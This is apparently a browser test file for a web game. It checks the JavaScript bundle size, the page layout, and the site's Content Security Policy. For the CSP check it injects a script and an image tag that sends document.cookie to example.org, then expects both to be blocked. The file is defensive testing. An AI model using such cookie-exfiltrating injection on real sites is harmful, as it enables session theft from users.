import { gzipSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { address, forgive, inBrowser, newTab } from './browser.ts'

/** In bytes, compressed as servers do it. */
const LIMIT = 125_000

inBrowser('what is fetched', () => {
  test('first view under 125 kB gzip, and a game when it is begun', async ({ task }) => {
    const page = await newTab()
    // A day with a scenario: the first page does not fetch the list for it.
    await page.clock.setFixedTime(new Date('2026-11-17T12:00:00Z'))
    const scripts: Promise<number>[] = []
    page.on('response', (response) => {
      if (response.url().endsWith('.js')) scripts.push(response.body().then((body) => gzipSync(body).length))
    })
    const fetched = async () => (await Promise.all(scripts)).reduce((sum, size) => sum + size, 0)
    await page.goto(address(), { waitUntil: 'networkidle' })
    const first = await fetched()
    // The four games stand side by side below their heading.
    const tops = await page.evaluate(
      "[...document.querySelectorAll('#gates, .gate-list > li')].map((one) => one.offsetTop)",
    )
    expect(new Set((tops as number[]).slice(1)).size).toBe(1)
    expect((tops as number[])[1]).toBeGreaterThan((tops as number[])[0]!)
    await page.getByRole('button', { name: 'Fight now' }).click()
    await page.locator('.task-groups').waitFor()
    const match = await fetched()
    task.meta.figures = [`JavaScript, compressed: first view ${kB(first)}, a bout of Munera ${kB(match - first)} more`]
    expect(first).toBeLessThan(LIMIT)
    expect(match).toBeGreaterThan(first)
    // The page's policy: what somebody managed to put into it does not run and sends nothing away.
    await page.evaluate(`(() => {
      const script = document.createElement('script')
      script.textContent = 'window.isFooled = true'
      document.body.append(script)
      document.body.append(Object.assign(document.createElement('img'), { src: 'https://example.org/' + document.cookie }))
    })()`)
    await forgive(/violates the following Content Security Policy directive.*script-src/)
    await forgive(/violates the following Content Security Policy directive.*img-src/)
    await forgive(/^request: https:.*example/)
    expect(await page.evaluate('window.isFooled')).toBeUndefined()
  })
})

function kB(bytes: number): string {
  return `${Math.round(bytes / 1000)} kB`
}
